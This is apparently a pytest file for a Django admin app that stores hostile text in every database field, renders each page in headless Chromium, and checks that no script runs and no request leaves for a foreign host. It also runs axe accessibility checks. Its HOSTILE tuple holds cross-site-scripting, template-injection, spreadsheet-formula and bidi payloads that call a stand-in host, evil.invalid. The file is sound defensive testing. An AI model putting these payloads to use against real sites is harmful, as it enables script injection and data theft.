"""Every page in headless Chromium, full of hostile text: nothing runs, nothing leaves.

And axe has nothing serious to say about any of them.

`make test-pages` installs npm `axe-core` (locked by hash) below build/ and runs this. The text goes
into the database behind the services' backs, into every field that can hold it: what a check lets
through today must not depend on that check.
"""

from __future__ import annotations

import contextlib
import os
import shutil
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from django.conf import settings
from django.core.cache import cache
from django.db import DatabaseError, models, transaction

from apps.audit.models import AuditEvent, Surface
from apps.audit.services import record
from tests import factories
from tests.apps.admin_support import browser as signed_in
from tests.apps.admin_support import registered
from tests.apps.common.test_admin import furnished, rows_of
from tests.contracts.test_walk import addresses
from tests.journeys.sso.chromium import Chromium, program

if TYPE_CHECKING:
    from collections.abc import Iterator

    from pytest_django.live_server_helper import LiveServer

    from tests.factories import World

AXE = Path(__file__).parents[3] / "build" / "pages" / "node_modules" / "axe-core" / "axe.min.js"
pytestmark = [
    pytest.mark.slow,
    pytest.mark.django_db(transaction=True),
    pytest.mark.skipif(program() is None, reason="there is no Chromium here"),
    pytest.mark.skipif(shutil.which("npm") is None, reason="there is no npm here"),
    pytest.mark.skipif(not AXE.exists(), reason="`make test-pages` installs axe-core first"),
]

EVIL = "evil.invalid"
HOSTILE = (
    f"<script src=//{EVIL}/a.js></script><img src=//{EVIL}/b.png onerror=alert(1)>",
    f"\"'><svg/onload=alert(2)><iframe src=//{EVIL}/c></iframe>",
    "{{constructor.constructor('alert(3)')()}}</textarea></title><script>alert(4)</script>",
    f"\u202egnp.exe\u202c \u200b\u2066x\u2069 \x1b]8;;http://{EVIL}/\x07click\x1b]8;;\x07 \x1b[2J",
    f'=HYPERLINK("http://{EVIL}/","x") [x](javascript:alert(5)) ![y](http://{EVIL}/d.png)',
    f"</script><style>@import '//{EVIL}/e.css';</style><base href=//{EVIL}/>",
)
# Meaning, not text: names of things, keys, and what the pages themselves are built from.
_KEPT = ("slug", "hash", "key", "token", "kind", "state", "mode", "role", "action", "result")
_AXE_RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"]
_LOOK = """axe.run(document, {runOnly: %s}).then(found => found.violations
  .filter(one => ['serious', 'critical'].includes(one.impact))
  .map(one => one.id + ': ' + one.nodes.map(node => node.target.join(' ')).slice(0, 3)))"""
PUBLIC = ("/login/", "/login/acme/", "/login/nobody/", "/invitation/", "/setup/", "/logout/done/")


def visited(world: World) -> list[str]:
    """The pages to open: every address that shows an admin one, or every seventh in a smoke run."""
    smoke = os.environ.get("LENS_TEST_SMOKE") == "1"  # noqa: TID251  the test run's own switch
    admin = signed_in(world.admin)
    decided = AuditEvent.objects.filter(org=world.org.pk).order_by("pk").last()
    assert decided
    found = [path for path in addresses(world) if _is_page(admin.get(path))]
    return [*found, f"/explain/{decided.pk}"][:: 7 if smoke else 1]


def _is_page(response: Any) -> bool:
    """Whether it is a whole page; the admin's search answers with a part of one."""
    return response.status_code == 200 and b"</html>" in response.content


def poison(world: World, shift: int) -> int:
    """Put hostile text into every text field of every row; how many fields took it."""
    taken = 0
    tables = {admin.model for admin in registered()}
    for model in sorted(tables, key=lambda model: model._meta.label):
        rows = model._default_manager.filter(pk__in=[row.pk for row in rows_of(world, model)])
        for number, field in enumerate(_texts(model)):
            text = HOSTILE[(number + shift) % len(HOSTILE)][: field.max_length or 500]
            # A constraint that refuses the text is as good as a page that shows it.
            with contextlib.suppress(DatabaseError, ValueError), transaction.atomic():
                rows.update(**{field.name: text})
                taken += 1
    return taken


def _texts(model: type[models.Model]) -> Iterator[models.Field[Any, Any]]:
    for field in model._meta.concrete_fields:
        plain = isinstance(field, models.CharField | models.TextField) and not field.choices
        if plain and not any(part in field.name for part in _KEPT):
            yield field


def events(world: World, shift: int) -> None:
    """What an agent said, on the trail."""
    for number, text in enumerate(HOSTILE):
        record(
            actor=world.admin,
            org_id=world.org.pk,
            surface=Surface.ADMIN_CHANGE,
            action="team.update",
            resource_type="team",
            resource_id=text[:100],
            reason=HOSTILE[(number + shift) % len(HOSTILE)],
            metadata={"path": text, text[:40]: [text]},
            changes={"name": (text, text)},
        )
    AuditEvent.objects.filter(org=world.org.pk).update(principal_name=HOSTILE[shift][:100])


@pytest.fixture
def world(live_server: LiveServer) -> World:
    cache.clear()
    return furnished(factories.acme())


@pytest.fixture
def tab(live_server: LiveServer, tmp_path: Path, world: World) -> Iterator[Chromium]:
    """A tab in which an admin is signed in."""
    cookie = signed_in(world.admin).cookies[settings.SESSION_COOKIE_NAME].value
    with Chromium(tmp_path / "chromium") as found:
        found.call(
            "Network.setCookie",
            name=settings.SESSION_COOKIE_NAME,
            value=cookie,
            url=live_server.url,
        )
        yield found


def judge(tab: Chromium) -> list[str]:
    """What axe finds serious or critical on the page that is open."""
    tab.call("Runtime.evaluate", expression=AXE.read_text())
    answer = tab.call(
        "Runtime.evaluate",
        expression=_LOOK % _AXE_RULES,
        awaitPromise=True,
        returnByValue=True,
    )
    assert "exceptionDetails" not in answer, answer
    return list(answer["result"]["value"])


@pytest.mark.parametrize("shift", [0, 3])
def test_hostile_text_stays_text(
    live_server: LiveServer, tab: Chromium, world: World, shift: int
) -> None:
    events(world, shift)
    paths = visited(world)
    assert poison(world, shift) > 30
    problems = []
    for path in paths:
        tab.asked.clear()
        tab.open(live_server.url + path)
        assert tab.url.startswith(live_server.url), tab.url
        outside = [url for url in tab.asked if not _ours(url, live_server.url)]
        if outside or tab.dialogs:
            problems.append(f"{path}: {outside} {tab.dialogs} dialogs")
            tab.dialogs = 0
    assert not problems


def _ours(url: str, base: str) -> bool:
    return url.startswith((base, "data:", "blob:"))


def test_every_page_is_accessible(live_server: LiveServer, tab: Chromium, world: World) -> None:
    found = {}
    for path in (*visited(world), "/no/such/page"):
        tab.open(live_server.url + path)
        if problems := judge(tab):
            found[path] = problems
    tab.call("Network.clearBrowserCookies")
    for path in PUBLIC:
        tab.open(live_server.url + path)
        assert tab.url == live_server.url + path
        if problems := judge(tab):
            found[path] = problems
    assert not found


def test_an_operation_that_is_opened_is_accessible(
    live_server: LiveServer, tab: Chromium, world: World
) -> None:
    """On the page of the REST API: one with a body, ready to be tried."""
    tab.open(f"{live_server.url}/api/v1/docs")
    for click in ("#operations-agents-agents_create .opblock-summary-control", ".try-out__btn"):
        script = f"""new Promise(done => {{
          const look = () => {{
            const found = document.querySelector("{click}");
            if (found) {{ found.click(); setTimeout(() => done(true), 200); }}
            else setTimeout(look, 50);
          }};
          look();
        }})"""
        tab.call("Runtime.evaluate", expression=script, awaitPromise=True)
    shown = "document.querySelectorAll('.body-param textarea').length"
    assert tab.call("Runtime.evaluate", expression=shown)["result"]["value"] == 1
    assert not judge(tab)


def test_the_judge_bites(live_server: LiveServer, tab: Chromium) -> None:
    """A page without a title, and a picture without words."""
    tab.open(f"{live_server.url}/login/")
    tab.run("document.title = ''; document.body.innerHTML += '<img src=\"data:,\">'; 1")
    assert {problem.partition(":")[0] for problem in judge(tab)} >= {"document-title", "image-alt"}


def test_the_traps_bite(live_server: LiveServer, tab: Chromium) -> None:
    """Were the text a part of the page, we would see it."""
    tab.open(f"{live_server.url}/login/")
    tab.asked.clear()
    tab.call("Runtime.evaluate", expression=f"new Image().src = 'http://{EVIL}/x'; alert(1)")
    tab.settle()
    assert tab.dialogs == 1
    assert any(EVIL in url for url in tab.asked)
